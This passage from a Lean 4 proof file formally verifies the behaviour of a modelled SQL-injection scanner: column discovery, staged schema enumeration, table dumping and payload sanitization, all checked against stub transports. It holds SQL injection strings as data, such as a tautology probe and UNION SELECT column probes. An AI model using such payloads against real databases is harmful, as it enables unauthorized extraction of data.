    cases hloop : probeParamsLoop t colAccept sq keys ps with
    | mk pend ptr =>
      cases pend with
      | hit => exact absurd (by rw [hloop]) hnh
      | err => rw [htr]
      | exhausted => rw [htr]

theorem testSQLInjection_zero_columns (t : Transport) (ps0 : Params)
    (det col : List String) (maxLen : Nat) (ev : String)
    (tr1 tr2 : List Params)
    (h1 : testBasicVulnerability t (ps0.map Prod.fst) ps0 maxLen det =
      .ok (some ev, tr1))
    (h2 : findColumnCount t (ps0.map Prod.fst) ps0 maxLen col = .ok (0, tr2)) :
    testSQLInjection t ps0 det col maxLen =
      .ok (vulnOnly ev,
           tr1.map (fun p => (p, initRes)) ++
           tr2.map (fun p => (p, vulnOnly ev))) := by
  simp only [testSQLInjection, vulnOnly, bind, Except.bind, h1, h2]
  rw [if_pos trivial]

/-- C5.  `findColumnCount` returns `i + 1` for the first payload index `i`
whose probe draws a response free of the error signature (absence of
`error` is the acceptance signal), `0` when no probe is accepted; with the
spec's arity stub it returns `3`; and a zero column count aborts every
extraction stage — the scan returns the detection-only result with no
further requests. -/
theorem c5_column_discovery :
    (∀ (t : Transport) (keys : List String) (ps : Params) (maxLen : Nat)
       (payloads : List String) (i : Nat) (p sp : String),
       payloads.get? i = some p →
       (∀ j q, j < i → payloads.get? j = some q →
         ∃ sq, sanitizePayload (.str q) maxLen = .ok sq ∧
           (probeParamsLoop t colAccept sq keys ps).1 ≠ .hit) →
       sanitizePayload (.str p) maxLen = .ok sp →
       (probeParamsLoop t colAccept sp keys ps).1 = .hit →
       ∃ tr, findColumnCount t keys ps maxLen payloads = .ok (i + 1, tr)) ∧
    (∀ (t : Transport) (keys : List String) (ps : Params) (maxLen : Nat)
       (payloads : List String),
       (∀ p ∈ payloads, ∃ sq, sanitizePayload (.str p) maxLen = .ok sq ∧
         (probeParamsLoop t colAccept sq keys ps).1 ≠ .hit) →
       ∃ tr, findColumnCount t keys ps maxLen payloads = .ok (0, tr)) ∧
    (findColumnCount stubCol ["id"] ps1 1000 COLUMN_PAYLOADS).map Prod.fst =
      .ok 3 ∧
    (∀ (t : Transport) (ps0 : Params) (det col : List String) (maxLen : Nat)
       (ev : String) (tr1 tr2 : List Params),
       testBasicVulnerability t (ps0.map Prod.fst) ps0 maxLen det =
         .ok (some ev, tr1) →
       findColumnCount t (ps0.map Prod.fst) ps0 maxLen col = .ok (0, tr2) →
       testSQLInjection t ps0 det col maxLen =
         .ok (vulnOnly ev,
              tr1.map (fun p => (p, initRes)) ++
              tr2.map (fun p => (p, vulnOnly ev)))) := by
  refine ⟨?_, ?_, ?_, testSQLInjection_zero_columns⟩
  · intro t keys ps maxLen payloads i p sp hget hprior hs hhit
    obtain ⟨tr, htr⟩ := findColumnCountAux_first t keys ps maxLen payloads 0 i p sp
      hget hprior hs hhit
    refine ⟨tr, ?_⟩
    rw [findColumnCount, htr, Nat.zero_add]
  · intro t keys ps maxLen payloads h
    exact findColumnCountAux_none t keys ps maxLen payloads 0 h
  · rfl

/-- Witness for C5: the stub run of spec §8 accepts the third probe (`N = 3`),
and a transport that always throws leaves the count undetermined (`0`), which
aborts extraction on the concrete erroring scan. -/
theorem c5_column_discovery_witness :
    (∃ tr, findColumnCount stubCol ["id"] ps1 1000 COLUMN_PAYLOADS =
       .ok (2 + 1, tr)) ∧
    (∃ tr, findColumnCount errT ["id"] ps1 1000 COLUMN_PAYLOADS = .ok (0, tr)) ∧
    testSQLInjection stub1 ps1 DET1 [] 1000 =
      .ok (vulnOnly "' OR '1'='1", [([("id", "' OR '1'='1")], initRes)]) := by
  refine ⟨?_, ?_, ?_⟩
  · exact c5_column_discovery.1 stubCol ["id"] ps1 1000 COLUMN_PAYLOADS 2
      ("' UNION ALL SELECT " ++ nullsJoin 3 ++ "--")
      ("' UNION ALL SELECT " ++ nullsJoin 3 ++ "--")
      (by rfl)
      (by
        intro j q hj hq
        interval_cases j
        · refine ⟨"' UNION ALL SELECT " ++ nullsJoin 1 ++ "--", ?_, ?_⟩
          · have hqe : "' UNION ALL SELECT " ++ nullsJoin 1 ++ "--" = q := by
              simpa [COLUMN_PAYLOADS] using hq
            subst hqe
            rfl
          · decide
        · refine ⟨"' UNION ALL SELECT " ++ nullsJoin 2 ++ "--", ?_, ?_⟩
          · have hqe : "' UNION ALL SELECT " ++ nullsJoin 2 ++ "--" = q := by
              simpa [COLUMN_PAYLOADS] using hq
            subst hqe
            rfl
          · decide
      )
      (by rfl) (by decide)
  · refine c5_column_discovery.2.1 errT ["id"] ps1 1000 COLUMN_PAYLOADS ?_
    intro p hp
    refine ⟨String.mk (sanitizeChars p.data), ?_, ?_⟩
    · have hlen : ¬(p.length > 1000) := by
        fin_cases hp <;> decide
      simp [sanitizePayload, hlen]
    · simp [probeParamsLoop, errT]
  · exact c5_column_discovery.2.2.2 stub1 ps1 DET1 [] 1000 "' OR '1'='1"
      [[("id", "' OR '1'='1")]] [] (by rfl) (by rfl)

/-! ## End-to-end stub run (claim C1) -/

/-- C1.  Against `stub1` — error signature for the detection payload, clean
body for the 2-column UNION probe, `"mydb::"` for the schema-enumeration
probe — `testSQLInjection` returns a result with `vulnerable = true` and
`databases = {"mydb"}`, and the discovered column count is `2`. -/
theorem c1_end_to_end_stub :
    (testSQLInjection stub1 ps1 DET1 COLUMN_PAYLOADS 1000).map
      (fun r => (r.1.vulnerable, r.1.databases)) = .ok (true, ["mydb"]) ∧
    (findColumnCount stub1 (ps1.map Prod.fst) ps1 1000 COLUMN_PAYLOADS).map
      Prod.fst = .ok 2 :=
  ⟨rfl, rfl⟩

/-! ## Monotone growth of the result object (claim C6) -/

theorem appendEx_refl (a : List String) : appendEx a a := ⟨[], (List.append_nil a).symm⟩

theorem appendEx_trans {a b c : List String} (h1 : appendEx a b) (h2 : appendEx b c) :
    appendEx a c := by
  obtain ⟨t1, rfl⟩ := h1
  obtain ⟨t2, rfl⟩ := h2
  exact ⟨t1 ++ t2, List.append_assoc a t1 t2⟩

theorem appendEx_addS (x : String) (l : List String) : appendEx l (addS x l) := by
  by_cases h : x ∈ l
  · simp only [addS, if_pos h]
    exact appendEx_refl l
  · exact ⟨[x], by simp [addS, if_neg h]⟩

theorem appendEx_foldl_addS (xs : List String) (l : List String) :
    appendEx l (xs.foldl (fun a x => addS x a) l) := by
  induction xs generalizing l with
  | nil => exact appendEx_refl l
  | cons x rest ih =>
    exact appendEx_trans (appendEx_addS x l) (ih (addS x l))

theorem lookupA_setA_isSome {α : Type} (k k2 : String) (v : α)
    (l : List (String × α)) (h : (lookupA k2 l).isSome = true) :
    (lookupA k2 (setA k v l)).isSome = true := by
  rw [lookupA_setA]
  by_cases hk : k2 = k
  · rw [if_pos hk]; rfl
  · rw [if_neg hk]; exact h

theorem growsA_refl (r : SQLRes) : GrowsA r r :=
  ⟨appendEx_refl _, appendEx_refl _, appendEx_refl _, appendEx_refl _,
   fun _ h => h⟩

theorem growsA_trans {a b c : SQLRes} (h1 : GrowsA a b) (h2 : GrowsA b c) :
    GrowsA a c :=
  ⟨appendEx_trans h1.1 h2.1, appendEx_trans h1.2.1 h2.2.1,
   appendEx_trans h1.2.2.1 h2.2.2.1, appendEx_trans h1.2.2.2.1 h2.2.2.2.1,
   fun k hk => h2.2.2.2.2 k (h1.2.2.2.2 k hk)⟩

theorem growsA_setInfoField (r : SQLRes) (key : InfoKey) (v : String) :
    GrowsA r (setInfoField r key v) := by
  cases key <;>
    exact ⟨appendEx_refl _, appendEx_refl _, appendEx_refl _, appendEx_refl _,
      fun _ h => h⟩

theorem growsA_databases_foldl (r : SQLRes) (xs : List String) :
    GrowsA r { r with databases := xs.foldl (fun l x => addS x l) r.databases } :=
  ⟨appendEx_foldl_addS xs r.databases, appendEx_refl _, appendEx_refl _,
   appendEx_refl _, fun _ h => h⟩

theorem growsA_add_table (r : SQLRes) (table : String) :
    GrowsA r { r with tables := addS table r.tables } :=
  ⟨appendEx_refl _, appendEx_addS table r.tables, appendEx_refl _,
   appendEx_refl _, fun _ h => h⟩

theorem growsA_push_columns (r : SQLRes) (cols : List String) :
    GrowsA r { r with columns := r.columns ++ cols } :=
  ⟨appendEx_refl _, appendEx_refl _, ⟨cols, rfl⟩, appendEx_refl _, fun _ h => h⟩

theorem growsA_set_tableData (r : SQLRes) (table : String) (data : List String) :
    GrowsA r { r with tableData := setA table data r.tableData } :=
  ⟨appendEx_refl _, appendEx_refl _, appendEx_refl _, appendEx_refl _,
   fun k hk => lookupA_setA_isSome table k data r.tableData hk⟩

theorem chainG_tail {a : SQLRes} {l : List SQLRes} (h : ChainG (a :: l)) :
    ChainG l := by
  cases l with
  | nil => trivial
  | cons b rest => exact h.2

theorem chainG_glue (xs : List SQLRes) (m : SQLRes) (ys : List SQLRes)
    (h1 : ChainG (xs ++ [m])) (h2 : ChainG (m :: ys)) : ChainG (xs ++ ys) := by
  induction xs with
  | nil => exact chainG_tail h2
  | cons a xs2 ih =>
    cases xs2 with
    | nil =>
      cases ys with
      | nil => trivial
      | cons y ys2 =>
        simp only [List.cons_append, List.nil_append] at h1 ⊢
        exact ⟨growsA_trans h1.1 h2.1, chainG_tail h2⟩
    | cons b xs3 =>
      simp only [List.cons_append] at h1 ⊢
      exact ⟨h1.1, ih h1.2⟩

theorem chainG_head_rel {a : SQLRes} {l : List SQLRes} (h : ChainG (a :: l)) :
    ∀ j (hj : j < l.length), GrowsA a (l.get ⟨j, hj⟩) := by
  induction l generalizing a with
  | nil => intro j hj; cases hj
  | cons b rest ih =>
    intro j hj
    cases j with
    | zero => exact h.1
    | succ j2 =>
      exact growsA_trans h.1 (ih h.2 j2 (Nat.lt_of_succ_lt_succ hj))

theorem chainG_pairwise {l : List SQLRes} (h : ChainG l) :
    ∀ i j (hi : i < l.length) (hj : j < l.length), i ≤ j →
      GrowsA (l.get ⟨i, hi⟩) (l.get ⟨j, hj⟩) := by
  induction l with
  | nil => intro i j hi; cases hi
  | cons a rest ih =>
    intro i j hi hj hij
    cases i with
    | zero =>
      cases j with
      | zero => exact growsA_refl _
      | succ j2 => exact chainG_head_rel h j2 (Nat.lt_of_succ_lt_succ hj)
    | succ i2 =>
      cases j with
      | zero => cases hij
      | succ j2 =>
        exact ih (chainG_tail h) i2 j2 (Nat.lt_of_succ_lt_succ hi)
          (Nat.lt_of_succ_lt_succ hj) (Nat.le_of_succ_le_succ hij)

theorem chainG_const (r r2 : SQLRes) (tr : List Params) (h : GrowsA r r2) :
    ChainG (r :: (tr.map (fun p => (p, r))).map Prod.snd ++ [r2]) := by
  induction tr with
  | nil => exact ⟨h, trivial⟩
  | cons p rest ih =>
    exact ⟨growsA_refl r, ih⟩

theorem chainG_stage_append (r r2 r3 : SQLRes) (tr1 tr2 : List (Params × SQLRes))
    (h1 : ChainG (r :: tr1.map Prod.snd ++ [r2]))
    (h2 : ChainG (r2 :: tr2.map Prod.snd ++ [r3])) :
    ChainG (r :: (tr1 ++ tr2).map Prod.snd ++ [r3]) := by
  have := chainG_glue (r :: tr1.map Prod.snd) r2 (tr2.map Prod.snd ++ [r3]) h1 h2
  simpa [List.map_append, List.append_assoc] using this

theorem sysKeyLoop_chain (t : Transport) (v : String) (key : InfoKey) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes),
    ChainG (res :: ((sysKeyLoop t v key keys ps res).2).map Prod.snd ++
      [(sysKeyLoop t v key keys ps res).1]) := by
  intro keys
  induction keys with
  | nil => intro ps res; exact ⟨growsA_refl res, trivial⟩
  | cons k ks ih =>
    intro ps res
    simp only [sysKeyLoop]
    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht]
      exact ⟨growsA_refl res, growsA_refl res, trivial⟩
    | ok body =>
      simp only [ht]
      cases hdata : extractDataFromResponse body with
      | some d =>
        simp only [hdata]
        exact ⟨growsA_setInfoField res key d, ih (setA k v ps) _⟩
      | none =>
        simp only [hdata]
        exact ⟨growsA_refl res, ih (setA k v ps) _⟩

theorem schemaKeyLoop_chain (t : Transport) (v : String) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes),
    ChainG (res :: ((schemaKeyLoop t v keys ps res).2).map Prod.snd ++
      [(schemaKeyLoop t v keys ps res).1]) := by
  intro keys
  induction keys with
  | nil => intro ps res; exact ⟨growsA_refl res, trivial⟩
  | cons k ks ih =>
    intro ps res
    simp only [schemaKeyLoop]
    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht]
      exact ⟨growsA_refl res, growsA_refl res, trivial⟩
    | ok body =>
      simp only [ht]
      exact ⟨growsA_databases_foldl res _, ih (setA k v ps) _⟩

theorem dumpKeyLoop_chain (t : Transport) (dp tableName : String) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes),
    ChainG (res :: ((dumpKeyLoop t dp tableName keys ps res).2).map Prod.snd ++
      [(dumpKeyLoop t dp tableName keys ps res).1]) := by
  intro keys
  induction keys with
  | nil => intro ps res; exact ⟨growsA_refl res, trivial⟩
  | cons k ks ih =>
    intro ps res
    simp only [dumpKeyLoop]
    cases ht : t (setA k dp ps) with
    | error e =>
      simp only [ht]
      exact ⟨growsA_refl res, growsA_refl res, trivial⟩
    | ok body =>
      simp only [ht]
      by_cases hemp : (extractListFromResponse body).isEmpty
      · rw [if_pos hemp]
        exact ⟨growsA_refl res, ih (setA k dp ps) _⟩
      · rw [if_neg hemp]
        exact ⟨growsA_set_tableData res tableName _, ih (setA k dp ps) _⟩

theorem structTableLoop_chain (t : Transport) (db : String) (cc maxLen : Nat)
    (k : String) :
    ∀ (tables : List String) (ps : Params) (res : SQLRes),
    ChainG (res ::
      ((structTableLoop t db cc maxLen k tables ps res).2.2.2).map Prod.snd ++
      [(structTableLoop t db cc maxLen k tables ps res).2.2.1]) := by
  intro tables
  induction tables with
  | nil => intro ps res; exact ⟨growsA_refl res, trivial⟩
  | cons table rest ih =>
    intro ps res
    simp only [structTableLoop]
    cases hs : sanitizePayload (.str (columnPayload db table cc)) maxLen with
    | error e =>
      simp only [hs]
      exact ⟨growsA_add_table res table, trivial⟩
    | ok cp =>
      simp only [hs]
      cases ht : t (setA k cp ps) with
      | error e =>
        simp only [ht]
        exact ⟨growsA_add_table res table, growsA_refl _, trivial⟩
      | ok body =>
        simp only [ht]
        refine ⟨?_, ih (setA k cp ps) _⟩
        exact growsA_trans (growsA_add_table res table) (growsA_push_columns _ _)

theorem structKeyLoop_chain (t : Transport) (db : String) (cc maxLen : Nat)
    (tp : String) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes),
    ChainG (res :: ((structKeyLoop t db cc maxLen tp keys ps res).2).map Prod.snd ++
      [(structKeyLoop t db cc maxLen tp keys ps res).1]) := by
  intro keys
  induction keys with
  | nil => intro ps res; exact ⟨growsA_refl res, trivial⟩
  | cons k ks ih =>
    intro ps res
    simp only [structKeyLoop]
    cases ht : t (setA k tp ps) with
    | error e =>
      simp only [ht]
      exact ⟨growsA_refl res, growsA_refl res, trivial⟩
    | ok body =>
      simp only [ht]
      cases hok : (structTableLoop t db cc maxLen k
          (extractListFromResponse body) (setA k tp ps) res).1 with
      | true =>
        rw [if_pos rfl]
        refine ⟨growsA_refl res, ?_⟩
        exact chainG_stage_append _ _ _ _ _
          (structTableLoop_chain t db cc maxLen k
            (extractListFromResponse body) (setA k tp ps) res)
          (ih _ _)
      | false =>
        rw [if_neg Bool.false_ne_true]
        exact ⟨growsA_refl res, structTableLoop_chain t db cc maxLen k _ _ res⟩

theorem extractSystemInfo_chain (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) :
    ∀ (ks : List InfoKey) (res out : SQLRes) (tr : List (Params × SQLRes)),
    extractSystemInfo t keys ps0 cc maxLen ks res = .ok (out, tr) →
    ChainG (res :: tr.map Prod.snd ++ [out]) := by
  intro ks
  induction ks with
  | nil =>
    intro res out tr h
    simp only [extractSystemInfo, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.1, ← h.2]
    exact ⟨growsA_refl res, trivial⟩
  | cons key rest ih =>
    intro res out tr h
    simp only [extractSystemInfo, bind, Except.bind] at h
    cases hs : sanitizePayload (.str (sysInfoPayloadFor key cc)) maxLen with
    | error e => simp only [hs] at h; cases h
    | ok sp =>
      simp only [hs] at h
      cases hrest : extractSystemInfo t keys ps0 cc maxLen rest
          (sysKeyLoop t sp key keys ps0 res).1 with
      | error e => simp only [hrest] at h; cases h
      | ok pr =>
        simp only [hrest] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        rw [← h.1, ← h.2]
        exact chainG_stage_append _ _ _ _ _
          (sysKeyLoop_chain t sp key keys ps0 res)
          (ih _ pr.1 pr.2 (by rw [hrest]))

theorem extractDatabaseSchemas_chain (t : Transport) (keys : List String)
    (ps0 : Params) (cc maxLen : Nat) (res out : SQLRes)
    (tr : List (Params × SQLRes))
    (h : extractDatabaseSchemas t keys ps0 cc maxLen res = .ok (out, tr)) :
    ChainG (res :: tr.map Prod.snd ++ [out]) := by
  simp only [extractDatabaseSchemas, bind, Except.bind] at h
  cases hs : sanitizePayload (.str (schemaPayload cc)) maxLen with
  | error e => simp only [hs] at h; cases h
  | ok sp =>
    rw [hs] at h
    simp only [Except.ok.injEq, Prod.ext_iff] at h
    rw [← h.1, ← h.2]
    exact schemaKeyLoop_chain t sp keys ps0 res

theorem extractDatabaseStructure_chain (t : Transport) (keys : List String)
    (ps0 : Params) (cc : Nat) (db : String) (maxLen : Nat) (res out : SQLRes)
    (tr : List (Params × SQLRes))
    (h : extractDatabaseStructure t keys ps0 cc db maxLen res = .ok (out, tr)) :
    ChainG (res :: tr.map Prod.snd ++ [out]) := by
  simp only [extractDatabaseStructure, bind, Except.bind] at h
  cases hs : sanitizePayload (.str (tablePayload db cc)) maxLen with
  | error e => simp only [hs] at h; cases h
  | ok tp =>
    rw [hs] at h
    simp only [Except.ok.injEq, Prod.ext_iff] at h
    rw [← h.1, ← h.2]
    exact structKeyLoop_chain t db cc maxLen tp keys ps0 res

theorem extractStructures_chain (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) :
    ∀ (dbs : List String) (res out : SQLRes) (tr : List (Params × SQLRes)),
    extractStructures t keys ps0 cc maxLen dbs res = .ok (out, tr) →
    ChainG (res :: tr.map Prod.snd ++ [out]) := by
  intro dbs
  induction dbs with
  | nil =>
    intro res out tr h
    simp only [extractStructures, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.1, ← h.2]
    exact ⟨growsA_refl res, trivial⟩
  | cons db rest ih =>
    intro res out tr h
    simp only [extractStructures, bind, Except.bind] at h
    cases h1 : extractDatabaseStructure t keys ps0 cc db maxLen res with
    | error e => simp only [h1] at h; cases h
    | ok pr1 =>
      simp only [h1] at h
      cases h2 : extractStructures t keys ps0 cc maxLen rest pr1.1 with
      | error e => simp only [h2] at h; cases h
      | ok pr2 =>
        simp only [h2] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        rw [← h.1, ← h.2]
        exact chainG_stage_append _ _ _ _ _
          (extractDatabaseStructure_chain t keys ps0 cc db maxLen res pr1.1 pr1.2
            (by rw [h1]))
          (ih pr1.1 pr2.1 pr2.2 (by rw [h2]))

theorem dumpAllTables_chain (t : Transport) (keys : List String) (ps0 : Params)
    (cc maxLen : Nat) :
    ∀ (tables : List String) (res out : SQLRes) (tr : List (Params × SQLRes)),
    dumpAllTables t keys ps0 cc maxLen tables res = .ok (out, tr) →
    ChainG (res :: tr.map Prod.snd ++ [out]) := by
  intro tables
  induction tables with
  | nil =>
    intro res out tr h
    simp only [dumpAllTables, Except.ok.injEq, Prod.mk.injEq] at h
    rw [← h.1, ← h.2]
    exact ⟨growsA_refl res, trivial⟩
  | cons table rest ih =>
    intro res out tr h
    simp only [dumpAllTables] at h
    by_cases hemp : (res.columns.filter (fun c => hasSubS table c)).isEmpty
    · rw [if_pos hemp] at h
      exact ih res out tr h
    · rw [if_neg hemp] at h
      simp only [bind, Except.bind] at h
      cases hs : sanitizePayload
          (.str (dumpPayloadFor (res.columns.filter (fun c => hasSubS table c))
            table cc)) maxLen with
      | error e => simp only [hs] at h; cases h
      | ok dp =>
        simp only [hs] at h
        cases h2 : dumpAllTables t keys ps0 cc maxLen rest
            (dumpKeyLoop t dp table keys ps0 res).1 with
        | error e => simp only [h2] at h; cases h
        | ok pr2 =>
          simp only [h2] at h
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          rw [← h.1, ← h.2]
          exact chainG_stage_append _ _ _ _ _
            (dumpKeyLoop_chain t dp table keys ps0 res)
            (ih _ pr2.1 pr2.2 (by rw [h2]))

set_option maxRecDepth 8192 in
/-- Counterexample to C6 as stated: in the two-parameter run against
`stub2`, the dump stage's first per-parameter probe of table `users` stores
`["row1"]` in `tableData`, and the very next probe replaces that entry with
`["row2"]` — an entry added by an earlier probe of the same stage is
overwritten. -/
theorem c6_table_data_replaced_cex :
    (testSQLInjection stub2 ps2 DET1 COLUMN_PAYLOADS 1000).map
      (fun r => ((r.2.map (fun st => lookupA "users" st.2.tableData)).get? 15,
                 (r.2.map (fun st => lookupA "users" st.2.tableData)).get? 16,
                 lookupA "users" r.1.tableData)) =
      .ok (some (some ["row1"]), some (some ["row2"]), some ["row2"]) := by
  rfl

/-- C6 (amended).  Within one `testSQLInjection` invocation, across the
sequence of intermediate result states, the `databases` and `tables` sets
and the `columns` and `successfulPayloads` sequences only grow by appended
entries, and `tableData` never loses a key; however a `tableData` entry's
value can be replaced by a later probe of the dump stage (a subsequent
query-parameter request for the same table overwrites the entry). -/
theorem c6_monotone_amended (t : Transport) (ps0 : Params)
    (det col : List String) (maxLen : Nat) (res : SQLRes)
    (steps : List (Params × SQLRes))
    (h : testSQLInjection t ps0 det col maxLen = .ok (res, steps)) :
    ∀ i j (hi : i < (stateList steps res).length)
      (hj : j < (stateList steps res).length), i ≤ j →
      GrowsA ((stateList steps res).get ⟨i, hi⟩)
        ((stateList steps res).get ⟨j, hj⟩) := by
  suffices hchain : ChainG (stateList steps res) by
    intro i j hi hj hij
    exact chainG_pairwise hchain i j hi hj hij
  simp only [stateList]
  simp only [testSQLInjection, bind, Except.bind] at h
  cases h1 : testBasicVulnerability t (ps0.map Prod.fst) ps0 maxLen det with
  | error e => simp only [h1] at h; cases h
  | ok r1 =>
    simp only [h1] at h
    cases hev : r1.1 with
    | none =>
      simp only [hev] at h
      simp only [Except.ok.injEq, Prod.mk.injEq] at h
      rw [← h.1, ← h.2]
      exact chainG_const initRes initRes r1.2 (growsA_refl initRes)
    | some sp =>
      simp only [hev] at h
      cases h2 : findColumnCount t (ps0.map Prod.fst) ps0 maxLen col with
      | error e => simp only [h2] at h; cases h
      | ok r2 =>
        simp only [h2] at h
        by_cases hz : r2.1 = 0
        · rw [if_pos hz] at h
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          rw [← h.1, ← h.2]
          exact chainG_stage_append _ _ _ _ _
            (chainG_const initRes
              { initRes with vulnerable := true, successfulPayloads := [sp] } r1.2
              ⟨appendEx_refl _, appendEx_refl _, appendEx_refl _, ⟨[sp], rfl⟩,
               fun _ hk => hk⟩)
            (chainG_const
              { initRes with vulnerable := true, successfulPayloads := [sp] }
              { initRes with vulnerable := true, successfulPayloads := [sp] }
              r2.2 (growsA_refl _))
        · rw [if_neg hz] at h
          cases h3 : extractSystemInfo t (ps0.map Prod.fst) ps0 r2.1 maxLen
              [InfoKey.version, InfoKey.user, InfoKey.currentDb]
              { initRes with vulnerable := true, successfulPayloads := [sp] } with
          | error e => simp only [h3] at h; cases h
          | ok r3 =>
            simp only [h3] at h
            cases h4 : extractDatabaseSchemas t (ps0.map Prod.fst) ps0 r2.1
                maxLen r3.1 with
            | error e => simp only [h4] at h; cases h
            | ok r4 =>
              simp only [h4] at h
              cases h5 : extractStructures t (ps0.map Prod.fst) ps0 r2.1 maxLen
                  r4.1.databases r4.1 with
              | error e => simp only [h5] at h; cases h
              | ok r5 =>
                simp only [h5] at h
                cases h6 : dumpAllTables t (ps0.map Prod.fst) ps0 r2.1 maxLen
                    r5.1.tables r5.1 with
                | error e => simp only [h6] at h; cases h
                | ok r6 =>
                  simp only [h6] at h
                  simp only [Except.ok.injEq, Prod.mk.injEq] at h
                  rw [← h.1, ← h.2]
                  refine chainG_stage_append _ _ _ _ _
                    (chainG_stage_append _ _ _ _ _
                      (chainG_stage_append _ _ _ _ _
                        (chainG_stage_append _ _ _ _ _
                          (chainG_stage_append _ _ _ _ _
                            (chainG_const initRes
                              { initRes with vulnerable := true,
                                             successfulPayloads := [sp] } r1.2
                              ⟨appendEx_refl _, appendEx_refl _, appendEx_refl _,
                               ⟨[sp], rfl⟩, fun _ hk => hk⟩)
                            (chainG_const
                              { initRes with vulnerable := true,
                                             successfulPayloads := [sp] }
                              { initRes with vulnerable := true,
                                             successfulPayloads := [sp] }
                              r2.2 (growsA_refl _)))
                          (extractSystemInfo_chain t (ps0.map Prod.fst) ps0 r2.1
                            maxLen [InfoKey.version, InfoKey.user, InfoKey.currentDb]
                            _ r3.1 r3.2 (by rw [h3])))
                        (extractDatabaseSchemas_chain t (ps0.map Prod.fst) ps0 r2.1
                          maxLen r3.1 r4.1 r4.2 (by rw [h4])))
                      (extractStructures_chain t (ps0.map Prod.fst) ps0 r2.1 maxLen
                        r4.1.databases r4.1 r5.1 r5.2 (by rw [h5])))
                    (dumpAllTables_chain t (ps0.map Prod.fst) ps0 r2.1 maxLen
                      r5.1.tables r5.1 r6.1 r6.2 (by rw [h6]))

/-- Witness for C6 (amended) on a concrete (empty-catalog) run. -/
theorem c6_monotone_amended_witness :
    testSQLInjection cleanT ps1 [] [] 1000 = .ok (initRes, []) ∧
    GrowsA ((stateList [] initRes).get ⟨0, by decide⟩)
      ((stateList [] initRes).get ⟨1, by decide⟩) :=
  ⟨rfl, c6_monotone_amended cleanT ps1 [] [] 1000 initRes [] rfl 0 1
    (by decide) (by decide) (by decide)⟩

/-! ## Payload sanitization across every probe (claim C10) -/

theorem length_trimChars (l : List Char) : (trimChars l).length ≤ l.length := by
  calc (trimChars l).length
      = (((l.dropWhile jsWs).reverse).dropWhile jsWs).length := by
        simp [trimChars]
    _ ≤ ((l.dropWhile jsWs).reverse).length :=
        (List.dropWhile_sublist jsWs).length_le
    _ = (l.dropWhile jsWs).length := by simp
    _ ≤ l.length := (List.dropWhile_sublist jsWs).length_le

theorem mem_trimChars (c : Char) (l : List Char) (h : c ∈ trimChars l) : c ∈ l := by
  simp only [trimChars, List.mem_reverse] at h
  have h2 := (List.dropWhile_sublist jsWs).mem h
  rw [List.mem_reverse] at h2
  exact (List.dropWhile_sublist jsWs).mem h2

theorem goodVal_sanitize (item : JsItem) (maxLen : Nat) (out : String)
    (h : sanitizePayload item maxLen = .ok out) : GoodVal maxLen out := by
  cases item with
  | nonString => cases h
  | str s =>
    simp only [sanitizePayload] at h
    by_cases hlen : s.length > maxLen
    · rw [if_pos hlen] at h; cases h
    · rw [if_neg hlen] at h
      injection h with hh
      constructor
      · rw [← hh]
        calc (String.mk (sanitizeChars s.data)).length
            = (sanitizeChars s.data).length := rfl
          _ ≤ (stripCRLFSemi s.data).length := length_trimChars _
          _ ≤ s.data.length := List.length_filter_le _ _
          _ = s.length := rfl
          _ ≤ maxLen := Nat.le_of_not_lt hlen
      · intro c hc
        rw [← hh] at hc
        have hc2 : c ∈ sanitizeChars s.data := hc
        have hc3 : c ∈ stripCRLFSemi s.data := mem_trimChars c _ hc2
        have hconj : ¬(c = '\r') ∧ ¬(c = '\n') ∧ ¬(c = ';') := by
          simpa using List.of_mem_filter hc3
        intro hor
        rcases hor with h1 | h1 | h1
        · exact hconj.2.2 h1
        · exact hconj.1 h1
        · exact hconj.2.1 h1

theorem goodReq_refl (orig : Params) (maxLen : Nat) : GoodReq orig maxLen orig :=
  fun _ h => Or.inl h

theorem goodReq_setA (orig : Params) (maxLen : Nat) (ps : Params) (k v : String)
    (h : GoodReq orig maxLen ps) (hv : GoodVal maxLen v) :
    GoodReq orig maxLen (setA k v ps) := by
  intro kv hkv
  rcases mem_setA k v kv ps hkv with h1 | h1
  · right
    rw [h1]
    exact hv
  · exact h kv h1

theorem probeParamsLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (accept : String → Bool) (v : String) (hv : GoodVal maxLen v) :
    ∀ (keys : List String) (ps : Params), GoodReq orig maxLen ps →
    ∀ req ∈ (probeParamsLoop t accept v keys ps).2, GoodReq orig maxLen req := by
  intro keys
  induction keys with
  | nil =>
    intro ps _ req hreq
    simp [probeParamsLoop] at hreq
  | cons k ks ih =>
    intro ps hps req hreq
    have hps1 : GoodReq orig maxLen (setA k v ps) := goodReq_setA orig maxLen ps k v hps hv
    simp only [probeParamsLoop] at hreq
    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht] at hreq
      simp only [List.mem_singleton] at hreq
      rw [hreq]
      exact hps1
    | ok body =>
      simp only [ht] at hreq
      by_cases hacc : accept body = true
      · rw [if_pos hacc] at hreq
        simp only [List.mem_singleton] at hreq
        rw [hreq]
        exact hps1
      · rw [if_neg hacc] at hreq
        rcases List.mem_cons.mp hreq with h1 | h1
        · rw [h1]; exact hps1
        · exact ih (setA k v ps) hps1 req h1

theorem sysKeyLoop_goodReq (orig : Params) (maxLen : Nat) (t : Transport)
    (v : String) (key : InfoKey) (hv : GoodVal maxLen v) :
    ∀ (keys : List String) (ps : Params) (res : SQLRes), GoodReq orig maxLen ps →
    ∀ st ∈ (sysKeyLoop t v key keys ps res).2, GoodReq orig maxLen st.1 := by
  intro keys
  induction keys with
  | nil => intro ps res _ st hst; simp [sysKeyLoop] at hst
  | cons k ks ih =>
    intro ps res hps st hst
    have hps1 : GoodReq orig maxLen (setA k v ps) := goodReq_setA orig maxLen ps k v hps hv
    simp only [sysKeyLoop] at hst
